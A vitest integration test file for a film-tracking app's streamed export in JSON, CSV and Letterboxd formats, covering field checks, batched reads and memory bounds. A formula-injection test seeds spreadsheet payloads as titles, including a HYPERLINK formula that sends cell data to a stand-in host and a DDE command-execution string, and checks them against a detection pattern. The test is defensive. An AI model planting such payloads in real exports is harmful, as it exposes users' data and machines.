// The streamed export against real PostgreSQL: the three formats field by field (CSVs parsed back with
// csv-parse), and 20,000+ entries read a batch at a time, complete, in bounded memory.
import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import { createApp } from "../../src/api/app.js";
import { signToken } from "../../src/auth/tokens.js";
import type { Db, Rating } from "../../src/db/client.js";
import { silentLogger } from "../../src/logger.js";
import { CSV_COLUMNS, EXPORT_BATCH_SIZE, type ExportFormat, exportChunks, LETTERBOXD_COLUMNS } from "../../src/services/export.js";
import { dayToDate } from "../../src/services/history.js";
import type { TmdbClient } from "../../src/tmdb/types.js";
import { fakeMovies as m } from "../fake-tmdb/index.js";
import { useTestDatabase } from "../helpers/db.js";
import { cacheMovies, seedUser } from "../helpers/seed-library.js";

const { db, coordination } = await useTestDatabase();

async function text(userId: string, format: ExportFormat, database: Db = db) {
  let out = "";
  for await (const chunk of exportChunks(database, userId, format, new Date("2026-01-02T03:04:05.000Z"))) out += chunk;
  return out;
}

const csvRows = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[];

/** The contract's import map for Letterboxd stars: 0.5–2 DISLIKE, 2.5–3 OK, 3.5–4 LIKE, 4.5–5 SUPER_LIKE. */
const levelOfStars = (stars: number): Rating => (stars <= 2 ? "DISLIKE" : stars <= 3 ? "OK" : stars <= 4 ? "LIKE" : "SUPER_LIKE");

let user: string;
beforeAll(async () => {
  user = await seedUser(db, "exporter", {
    ratings: [
      [m.inception, "SUPER_LIKE", new Date("2024-01-02T03:04:05.678Z")],
      [m.arrival, "LIKE", new Date("2024-02-01T00:00:00.000Z")],
      [m.conjuring, "DISLIKE", new Date("2024-03-01T00:00:00.000Z")],
      [m.nottingHill, "OK", new Date("2024-04-01T00:00:00.000Z")],
    ],
    queue: [[m.dune2021, "HIGH"]],
  });
  const ids = await cacheMovies(db, [m.inception, m.arrival, m.memento]);
  await db.movie.update({ where: { tmdbId: m.inception.id }, data: { imdbId: "tt1375666" } });
  const view = (tmdbId: number, watchedOn: string | null, rewatch = false) =>
    db.viewing.create({ data: { userId: user, movieId: ids.get(tmdbId)!, watchedOn: watchedOn ? dayToDate(watchedOn) : null, rewatch } });
  await view(m.inception.id, "2010-07-20");
  const rewatch = await view(m.inception.id, "2023-06-01", true);
  await view(m.arrival.id, null);
  await view(m.memento.id, "2019-05-05");
  // The rewatch's tags and review (a formula-like first line, quotes, commas, an emoji, two lines), a
  // comment the exporter wrote under it, and a profile.
  await db.viewingTag.createMany({
    data: [
      { viewingId: rewatch.id, userId: user, tag: "IMAX", key: "imax" },
      { viewingId: rewatch.id, userId: user, tag: "with sam", key: "with sam" },
    ],
  });
  const review = await db.review.create({
    data: {
      viewingId: rewatch.id,
      userId: user,
      movieId: ids.get(m.inception.id)!,
      text: REVIEW,
      spoilers: true,
      createdAt: new Date("2023-06-02T10:00:00Z"),
    },
  });
  await db.reviewComment.create({
    data: { reviewId: review.id, authorId: user, text: "Still true.", createdAt: new Date("2023-06-03T00:00:00Z") },
  });
  await db.profile.create({ data: { userId: user, bio: "Films.\nMostly.", avatar: "🦊", region: "GB", services: [8, 11] } });
  await db.favouriteFilm.createMany({
    data: [
      { userId: user, movieId: ids.get(m.memento.id)!, position: 1 },
      { userId: user, movieId: ids.get(m.inception.id)!, position: 2 },
    ],
  });
});

const REVIEW = '=not a formula, "quoted"\nline two 🎬';

describe("export --json (version 3)", () => {
  it("is version 1 plus the history and the lists, each viewing with the contract's fields, undated first then by date", async () => {
    const doc = JSON.parse(await text(user, "json"));
    expect(Object.keys(doc)).toEqual([
      "version",
      "exportedAt",
      "user",
      "ratings",
      "watchlist",
      "history",
      "lists",
      "reviews",
      "comments",
      "profile",
    ]);
    expect(doc).toMatchObject({
      version: 3,
      exportedAt: "2026-01-02T03:04:05.000Z",
      user: { username: "exporter", email: "exporter@example.com" },
    });
    expect(doc.ratings[0]).toEqual({
      tmdbId: m.inception.id,
      title: "Inception",
      year: 2010,
      rating: "SUPER_LIKE",
      watched: true,
      createdAt: "2024-01-02T03:04:05.678Z",
      updatedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
    });
    expect(doc.ratings.map((entry: { rating: string }) => entry.rating)).toEqual(["SUPER_LIKE", "LIKE", "DISLIKE", "OK"]);
    expect(doc.watchlist).toEqual([{ tmdbId: m.dune2021.id, title: "Dune", year: 2021, priority: "HIGH", addedAt: expect.any(String) }]);
    expect(doc.history).toEqual([
      { tmdbId: m.arrival.id, title: "Arrival", year: 2016, watchedOn: null, rewatch: false, tags: [] },
      { tmdbId: m.inception.id, title: "Inception", year: 2010, watchedOn: "2010-07-20", rewatch: false, tags: [] },
      { tmdbId: m.memento.id, title: "Memento", year: 2000, watchedOn: "2019-05-05", rewatch: false, tags: [] },
      { tmdbId: m.inception.id, title: "Inception", year: 2010, watchedOn: "2023-06-01", rewatch: true, tags: ["IMAX", "with sam"] },
    ]);
  });

  it("adds the reviews (on their viewing, with its tags), the comments written and the profile, field by field", async () => {
    const doc = JSON.parse(await text(user, "json"));
    expect(doc.reviews).toEqual([
      {
        tmdbId: m.inception.id,
        title: "Inception",
        year: 2010,
        watchedOn: "2023-06-01",
        rewatch: true,
        tags: ["IMAX", "with sam"],
        text: REVIEW,
        spoilers: true,
        createdAt: "2023-06-02T10:00:00.000Z",
        updatedAt: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      },
    ]);
    expect(doc.comments).toEqual([
      {
        review: { author: "exporter", tmdbId: m.inception.id, title: "Inception", year: 2010 },
        text: "Still true.",
        at: "2023-06-03T00:00:00.000Z",
      },
    ]);
    expect(doc.profile).toEqual({
      bio: "Films.\nMostly.",
      avatar: "🦊",
      favourites: [
        { tmdbId: m.memento.id, title: "Memento", year: 2000 },
        { tmdbId: m.inception.id, title: "Inception", year: 2010 },
      ],
      region: "GB",
      services: [8, 11],
      visibility: "friends",
      shareTaste: true,
    });
  });

  it("an account with nothing is still a complete document", async () => {
    const empty = await seedUser(db, "empty_exporter", { ratings: [] });
    const doc = JSON.parse(await text(empty, "json"));
    expect(doc).toMatchObject({ version: 3, ratings: [], watchlist: [], history: [], lists: [], reviews: [], comments: [] });
    expect(doc.profile).toEqual({
      bio: null,
      avatar: null,
      favourites: [],
      region: null,
      services: [],
      visibility: "friends",
      shareTaste: true,
    });
  });
});

describe("export --csv", () => {
  it("has one row per rating, watchlist entry and viewing, the list column saying which", async () => {
    const csv = await text(user, "csv");
    expect(csv.split("\n")[0]).toBe(CSV_COLUMNS.join(","));
    const rows = csvRows(csv);
    expect(rows.map((row) => row.list)).toEqual([...Array(4).fill("ratings"), "watchlist", ...Array(4).fill("history")]);
    expect(rows[0]).toEqual({
      list: "ratings",
      tmdbId: String(m.inception.id),
      imdbId: "tt1375666",
      title: "Inception",
      year: "2010",
      rating: "SUPER_LIKE",
      watched: "true",
      priority: "",
      watchedOn: "",
      rewatch: "",
      createdAt: "2024-01-02T03:04:05.678Z",
      updatedAt: expect.any(String),
      addedAt: "",
    });
    expect(rows[4]).toMatchObject({ list: "watchlist", title: "Dune", priority: "HIGH", rating: "", addedAt: expect.any(String) });
    expect(rows.at(-1)).toMatchObject({ list: "history", title: "Inception", watchedOn: "2023-06-01", rewatch: "true", rating: "" });
    expect(rows[5]).toMatchObject({ list: "history", title: "Arrival", watchedOn: "", rewatch: "false" });
  });
});

describe("export --letterboxd", () => {
  it("writes Letterboxd's import columns: a row per viewing with its tags and review, then the rated films never viewed", async () => {
    const csv = await text(user, "letterboxd");
    expect(csv.split("\n")[0]).toBe("tmdbID,imdbID,Title,Year,Rating,WatchedDate,Rewatch,Tags,Review");
    expect(LETTERBOXD_COLUMNS).toEqual(["tmdbID", "imdbID", "Title", "Year", "Rating", "WatchedDate", "Rewatch", "Tags", "Review"]);
    // The review's formula-like first character is neutralized by the CSV writer; the rest is as written.
    const rows = csvRows(csv);
    expect(rows[3]).toMatchObject({ WatchedDate: "2023-06-01", Tags: "IMAX, with sam", Review: `'${REVIEW}` });
    expect(rows.map(({ Tags, Review, ...row }) => row)).toEqual([
      { tmdbID: String(m.arrival.id), imdbID: "", Title: "Arrival", Year: "2016", Rating: "4", WatchedDate: "", Rewatch: "false" },
      {
        tmdbID: String(m.inception.id),
        imdbID: "tt1375666",
        Title: "Inception",
        Year: "2010",
        Rating: "5",
        WatchedDate: "2010-07-20",
        Rewatch: "false",
      },
      { tmdbID: String(m.memento.id), imdbID: "", Title: "Memento", Year: "2000", Rating: "", WatchedDate: "2019-05-05", Rewatch: "false" },
      {
        tmdbID: String(m.inception.id),
        imdbID: "tt1375666",
        Title: "Inception",
        Year: "2010",
        Rating: "5",
        WatchedDate: "2023-06-01",
        Rewatch: "true",
      },
      {
        tmdbID: String(m.conjuring.id),
        imdbID: "",
        Title: "The Conjuring",
        Year: "2013",
        Rating: "1.5",
        WatchedDate: "",
        Rewatch: "",
      },
      // Rewatch empty: rated, never viewed (an undated viewing says false or true: see Arrival).
      { tmdbID: String(m.nottingHill.id), imdbID: "", Title: "Notting Hill", Year: "1999", Rating: "3", WatchedDate: "", Rewatch: "" },
    ]);
  });

  it("gives each level stars that the contract's import map turns back into the same level", async () => {
    const rows = csvRows(await text(user, "letterboxd"));
    const levels = await db.userMovie.findMany({ where: { userId: user }, select: { rating: true, movie: { select: { tmdbId: true } } } });
    expect(new Set(levels.map((row) => row.rating))).toEqual(new Set(["DISLIKE", "OK", "LIKE", "SUPER_LIKE"]));
    for (const { rating, movie } of levels) {
      for (const row of rows.filter((candidate) => candidate.tmdbID === String(movie.tmdbId))) {
        const stars = Number(row.Rating);
        expect(stars * 2, row.Title).toSatisfy(Number.isInteger);
        expect(stars).toBeGreaterThanOrEqual(0.5);
        expect(stars).toBeLessThanOrEqual(5);
        expect(levelOfStars(stars), row.Title).toBe(rating);
      }
    }
  });
});

describe("formula injection (issue 17, item 5)", () => {
  const TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "'=quoted"];
  /** A cell a spreadsheet runs as a formula starts with one of these. */
  const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

  it("--csv and --letterboxd write no title a spreadsheet would run, and each reads back as the title", async () => {
    const owner = await seedUser(db, "formula_exporter", { ratings: [] });
    const { csvCell } = await import("../../src/shared/csv.cjs");
    for (const [index, title] of TITLES.entries()) {
      const movie = await db.movie.create({ data: { tmdbId: 6_100_000 + index, title, releaseDate: "2001-01-01" } });
      await db.userMovie.create({ data: { userId: owner, movieId: movie.id, rating: "LIKE" } });
      await db.watchlist.create({
        data: { userId: owner, movieId: (await db.movie.create({ data: { tmdbId: 6_200_000 + index, title } })).id },
      });
      await db.viewing.create({ data: { userId: owner, movieId: movie.id, watchedOn: null, rewatch: false } });
    }
    for (const [format, column] of [
      ["csv", "title"],
      ["letterboxd", "Title"],
    ] as const) {
      const cells = csvRows(await text(owner, format)).map((row) => row[column]);
      expect(cells.length, format).toBeGreaterThanOrEqual(TITLES.length);
      for (const cell of cells) expect(cell, format).not.toMatch(FORMULA_START);
      expect(new Set(cells.map(csvCell)), format).toEqual(new Set(TITLES));
    }
  });
});

/** 20,000+ entries seeded by SQL: 12,000 ratings, 2,000 queued, 12,000 viewings (2,000 of them undated rewatches). */
async function seedBigAccount(): Promise<string> {
  const owner = await seedUser(db, "big_exporter", { ratings: [] });
  await db.$executeRaw`
    INSERT INTO "Movie" ("id", "tmdbId", "title", "releaseDate", "runtime", "imdbId")
    SELECT gen_random_uuid()::text, 7000000 + i, 'Film ' || i || ', "the ' || i || 'th" — 映画', '2001-02-03', 90 + i % 60,
           CASE WHEN i % 2 = 0 THEN 'tt' || lpad(i::text, 8, '0') END
    FROM generate_series(1, 14000) AS i`;
  await db.$executeRaw`
    INSERT INTO "UserMovie" ("id", "userId", "movieId", "rating", "createdAt", "updatedAt")
    SELECT gen_random_uuid()::text, ${owner}, m."id", (ARRAY['DISLIKE','OK','LIKE','SUPER_LIKE'])[1 + m."tmdbId" % 4]::"Rating",
           timestamp '2020-01-01' + (m."tmdbId" % 5000) * interval '1 hour', now()
    FROM "Movie" m WHERE m."tmdbId" BETWEEN 7000001 AND 7012000`;
  await db.$executeRaw`
    INSERT INTO "Watchlist" ("id", "userId", "movieId", "priority")
    SELECT gen_random_uuid()::text, ${owner}, m."id", 'LOW' FROM "Movie" m WHERE m."tmdbId" > 7012000 AND m."tmdbId" <= 7014000`;
  await db.$executeRaw`
    INSERT INTO "Viewing" ("id", "userId", "movieId", "watchedOn", "rewatch")
    SELECT gen_random_uuid()::text, ${owner}, m."id", date '2015-01-01' + (m."tmdbId" % 3000), false
    FROM "Movie" m WHERE m."tmdbId" BETWEEN 7000001 AND 7010000
    UNION ALL
    SELECT gen_random_uuid()::text, ${owner}, m."id", NULL, true FROM "Movie" m WHERE m."tmdbId" BETWEEN 7000001 AND 7002000`;
  return owner;
}

/** Counts $queryRaw calls: each is one batch of the export. */
function countingDb(database: Db) {
  const counter = { queries: 0 };
  const proxy = new Proxy(database, {
    get(target, property, receiver) {
      if (property === "$queryRaw") {
        return (...args: Parameters<Db["$queryRaw"]>) => {
          counter.queries++;
          return target.$queryRaw(...args);
        };
      }
      return Reflect.get(target, property, receiver);
    },
  });
  return { db: proxy, counter };
}

describe("a 28,000-entry account", { timeout: 120_000 }, () => {
  let owner: string;
  beforeAll(async () => {
    owner = await seedBigAccount();
  }, 120_000);

  it("exports every entry in all three formats, the JSON valid and the CSVs parsing back", async () => {
    const doc = JSON.parse(await text(owner, "json"));
    expect([doc.ratings.length, doc.watchlist.length, doc.history.length]).toEqual([12_000, 2_000, 12_000]);
    expect(new Set(doc.ratings.map((entry: { tmdbId: number }) => entry.tmdbId)).size).toBe(12_000);
    expect(
      doc.history.slice(0, 2_000).every((entry: { watchedOn: null; rewatch: boolean }) => entry.watchedOn === null && entry.rewatch),
    ).toBe(true);
    const days = doc.history.slice(2_000).map((entry: { watchedOn: string }) => entry.watchedOn);
    expect(days).toEqual([...days].sort());
    expect(doc.ratings[5].title).toMatch(/^Film \d+, "the \d+th" — 映画$/);

    const csv = csvRows(await text(owner, "csv"));
    expect(csv).toHaveLength(26_000);
    expect(csv.filter((row) => row.list === "history")).toHaveLength(12_000);
    const letterboxd = csvRows(await text(owner, "letterboxd"));
    // 12,000 viewings + the 2,000 rated films never viewed.
    expect(letterboxd).toHaveLength(14_000);
    expect(letterboxd.filter((row) => row.imdbID !== "").length).toBeGreaterThan(6_000);
  });

  it("reads the database a batch at a time, only as fast as the client reads the answer", async () => {
    const counted = countingDb(db);
    const token = signToken(owner, "export-test-secret-of-32-characters!!", "1h");
    const app = createApp({
      db: counted.db,
      coordination,
      tmdb: {} as TmdbClient,
      logger: silentLogger,
      jwtSecret: "export-test-secret-of-32-characters!!",
      jwtExpiresIn: "1h",
    });
    const response = await app.request("/export", { headers: { Authorization: `Bearer ${token}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get("x-export-ratings")).toBe("12000");
    const reader = response.body!.getReader();
    for (let i = 0; i < 3; i++) await reader.read();
    // Three chunks read: the header and two batches; at most one batch read ahead.
    expect(counted.counter.queries).toBeLessThanOrEqual(3);
    await reader.cancel();

    // Then the whole answer, its bytes counted and dropped: the heap must not grow with the account.
    const full = await app.request("/export?format=json", { headers: { Authorization: `Bearer ${token}` } });
    const before = process.memoryUsage().heapUsed;
    let peak = before;
    let bytes = 0;
    let batches = 0;
    for await (const chunk of full.body as unknown as AsyncIterable<Uint8Array>) {
      bytes += chunk.byteLength;
      batches++;
      peak = Math.max(peak, process.memoryUsage().heapUsed);
    }
    expect(bytes).toBeGreaterThan(2_000_000);
    expect(batches).toBeGreaterThanOrEqual(26_000 / EXPORT_BATCH_SIZE);
    // Generous (GC timing varies); bench/export.mjs prints the real figures.
    expect(peak - before).toBeLessThan(50 * 1024 * 1024);
  });
});
